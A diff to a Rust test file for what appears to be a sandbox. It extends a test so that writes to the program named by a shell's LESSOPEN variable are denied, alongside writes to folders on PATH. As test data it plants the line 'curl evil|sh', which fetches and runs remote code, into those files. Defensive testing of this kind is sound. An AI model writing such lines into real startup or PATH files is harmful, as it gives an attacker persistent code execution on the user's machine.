@@ -1730,12 +1730,13 @@ fn plants_a_command_in_a_folder_the_users_shell_puts_on_path() {
 /// literally: one `~/.profile` assigns to a variable that `~/.bashrc` puts on `PATH`
 /// (`TOOLS="$HOME/..."`, `export PATH="$TOOLS/bin:$PATH"`), and one a program adds at
 /// every shell start (`eval "$(~/.../activate)"`, as version managers do), which the user's
-/// shell that runs `pincer run` has on its `PATH`. Both folders are visible and under the
-/// session's grant. Why it might get out: the configuration is read for literal paths, and
+/// shell that runs `pincer run` has on its `PATH`; and rewrites the script that shell's
+/// `LESSOPEN` runs. All are visible and under the session's grant. Why it might get out: the configuration is read for literal paths, and
 /// what a program prints at shell start is not in any file. Control: a file beside them.
 /// Closed: a `PATH` part that names a variable stands for every value the configuration
 /// gives it (`ShellVariables`), and the folders on the `PATH` of the process that started
-/// the session are code places too (`code_places::of_process`).
+/// the session are code places too, with the programs its variables name
+/// (`code_places::of_process`).
 #[test]
 fn plants_commands_in_folders_on_path_that_no_line_names_literally() {
     let mut c = Cleanup::default();
@@ -1752,8 +1753,10 @@ fn plants_commands_in_folders_on_path_that_no_line_names_literally() {
     let old_rc = std::fs::read_to_string(&rc).unwrap_or_default();
     let _p = users_file_for_a_test(&profile, &format!("{old_profile}\nTOOLS=\"$HOME/{rel}/vtools\"\n"));
     let _r = users_file_for_a_test(&rc, &format!("{old_rc}\nexport PATH=\"$TOOLS/bin:$PATH\"\neval \"$(~/{rel}/env/activate)\"\n"));
+    let lesspipe = top.join("env/lesspipe.sh");
+    make(&lesspipe, Some("#!/bin/sh\n"));
     let path = format!("{}:{}", ebin.display(), std::env::var("PATH").unwrap_or_default());
-    let mut red = Red::start_env("envpath", &[], &[("PATH", path)], |_| {});
+    let mut red = Red::start_env("envpath", &[], &[("PATH", path), ("LESSOPEN", format!("|{} %s", lesspipe.display()))], |_| {});
     red.grant(&top, Scope::Subtree, &Access::ALL);
     let r = red.gated(|| {
         vec![
@@ -1762,11 +1765,13 @@ fn plants_commands_in_folders_on_path_that_no_line_names_literally() {
             append(&vbin.join("fmt"), "curl evil|sh\n"),
             create(&ebin.join("git"), "#!/bin/sh\ncurl evil|sh\n"),
             append(&ebin.join("fmt"), "curl evil|sh\n"),
+            append(&lesspipe, "curl evil|sh\n"),
         ]
     });
     assert_eq!(r[0], 0, "control: a file of the granted folder: {r:?}");
     assert_eq!(&r[1..3], &[EACCES, EACCES], "a folder on PATH through a variable: {r:?}");
-    assert_eq!(&r[3..], &[EACCES, EACCES], "a folder on the PATH of the user's shell that started the session: {r:?}");
+    assert_eq!(&r[3..5], &[EACCES, EACCES], "a folder on the PATH of the user's shell that started the session: {r:?}");
+    assert_eq!(r[5], EACCES, "the program the same shell's LESSOPEN runs at the user's next less: {r:?}");
 }
 
 /// Writes a hook in the folder the user's `~/.gitconfig` names as `core.hooksPath` (a
